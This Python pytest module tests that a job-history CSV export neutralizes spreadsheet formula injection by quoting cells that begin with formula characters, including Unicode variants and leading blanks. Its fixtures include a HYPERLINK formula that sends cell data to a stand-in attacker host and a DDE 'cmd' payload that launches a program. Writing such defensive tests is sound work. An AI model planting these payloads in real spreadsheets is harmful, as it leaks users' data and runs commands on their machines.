"""The job-history export never writes a cell a spreadsheet would run as a formula."""

import csv
import io

import pytest

from jobs.kinds.export_jobs import _neutralize

# Every character a spreadsheet starts a formula with: ASCII, fullwidth (what a Japanese or Chinese
# IME types), the small forms, and the Unicode minus sign.
FORMULA_CHARACTERS = [
    *"=+-@",
    *"\uff1d\uff0b\uff0d\uff20",  # fullwidth = + - @
    *"\ufe66\ufe62\ufe63\ufe6b",  # small = + - @
    "\u2212",  # minus sign
]
# What spreadsheets trim or do not show before deciding: spaces of every kind, controls, and
# invisible format characters.
LEADING_BLANKS = [
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u200b",
    "\ufeff",
    " \t\u3000",
]


@pytest.mark.parametrize("start", FORMULA_CHARACTERS)
def test_a_cell_starting_with_a_formula_character_is_quoted(start):
    value = f'{start}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    assert _neutralize(value) == "'" + value


@pytest.mark.parametrize("blank", LEADING_BLANKS, ids=repr)
@pytest.mark.parametrize("start", FORMULA_CHARACTERS)
def test_a_formula_after_leading_whitespace_is_quoted(blank, start):
    value = f"{blank}{start}1+1"
    assert _neutralize(value) == "'" + value


@pytest.mark.parametrize("control", ["\t", "\r", "\n"], ids=repr)
def test_a_cell_starting_with_a_tab_or_line_break_is_quoted_whatever_follows(control):
    assert _neutralize(control + "text") == "'" + control + "text"


@pytest.mark.parametrize(
    "value", ["", "plain", "1=1", "a+b", "e-mail@example.com", "   ", "\u00a0", "x \uff1d 1", "(=1)", "'=1"]
)
def test_other_cells_are_left_alone(value):
    assert _neutralize(value) == value


def test_the_written_csv_reads_back_as_text_for_every_formula_start():
    """What a spreadsheet receives: the quoted cell survives CSV quoting unchanged."""
    cells = [blank + start + "cmd|' /C calc'!A0" for start in FORMULA_CHARACTERS for blank in ["", " "]]
    out = io.StringIO()
    csv.writer(out).writerow([_neutralize(cell) for cell in cells])
    read = next(csv.reader(io.StringIO(out.getvalue())))
    assert read == ["'" + cell for cell in cells]


class FakeContext:
    """Just what the export kind uses of ``ctx``, writing its file under ``directory``."""

    cancelled = False

    def __init__(self, owner_id, directory):
        self.owner_id, self.job_id, self.directory = owner_id, None, directory

    def progress(self, *args):
        pass

    def log(self, line):
        pass

    def open_result_file(self, filename, mode="w", **kwargs):
        self.path = self.directory / filename
        return self.path.open(mode, **kwargs)


@pytest.mark.django_db
def test_the_export_quotes_every_formula_cell_it_writes(make_user, tmp_path):
    from jobs.kinds.export_jobs import ExportParams, run
    from jobs.models import JobState
    from tests.jobs.factories import make_job

    owner = make_user()
    errors = [blank + start + "2+3" for start in FORMULA_CHARACTERS for blank in ("", " ", "\u3000")]
    for error in errors:
        make_job(owner=owner, state=JobState.FAILED, error=error)
    ctx = FakeContext(owner.pk, tmp_path)

    assert run(ctx, ExportParams())["rows"] == len(errors)

    with ctx.path.open(newline="", encoding="utf-8") as written:
        rows = list(csv.DictReader(written))
    assert sorted(row["error"] for row in rows) == sorted("'" + error for error in errors)
    for row in rows:
        for cell in row.values():
            assert not cell or cell.startswith("'") or cell.lstrip()[:1].isalnum() or cell[:1] == "{", cell
